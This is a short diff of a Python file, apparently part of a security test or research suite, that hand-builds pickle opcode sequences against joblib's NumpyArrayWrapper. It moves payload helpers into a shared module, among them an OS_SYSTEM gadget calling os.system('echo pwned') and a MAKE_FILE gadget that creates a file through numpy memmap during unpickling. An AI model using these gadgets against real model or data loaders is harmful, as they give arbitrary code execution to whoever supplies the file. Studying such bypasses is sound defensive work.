@@ -28,27 +28,12 @@ PYPICKLE = os.environ.get("PYPICKLE")
 
 
 sys.path.insert(0, os.path.join(HERE, "..", "tricks"))
-from mk import G, GET, K, PUT, SU, U  # noqa: E402  (the opcode helpers of every round)
+from mk import MAKE_FILE, PAYLOAD, U1, state, G, GET, K, PUT, SU, U  # noqa: E402  (the opcode helpers of every round)
 
 P2 = b"\x80\x02"
 P4 = b"\x80\x04"
 WRAPPER_CLS = G("joblib.numpy_pickle", "NumpyArrayWrapper")
-U1 = G("numpy", "dtype") + U("u1") + b"\x89\x88\x87R"
-OS_SYSTEM = G("os", "system") + U("echo pwned") + b"\x85R"
-
-
-def MAKE_FILE(memmap):
-    """list(itertools.starmap(memmap, [("pwned.dat", "uint8", "w+", 0, (1,))])): creates a file."""
-    return (G("builtins", "list") + G("itertools", "starmap") + memmap
-            + b"](" + U("pwned.dat") + U("uint8") + U("w+") + K(0) + K(1) + b"\x85ta"
-            + b"\x86R\x85R")
-
-
-def state(items, memo=1):
-    out = b"}" + PUT(memo) + b"("
-    for key, value in items:
-        out += U(key) + value
-    return out + b"u"
+OS_SYSTEM = PAYLOAD
 
 
 def memmap_wrapper(subclass=None, shape=2, memo=0, state_memo=1, aligned=True):
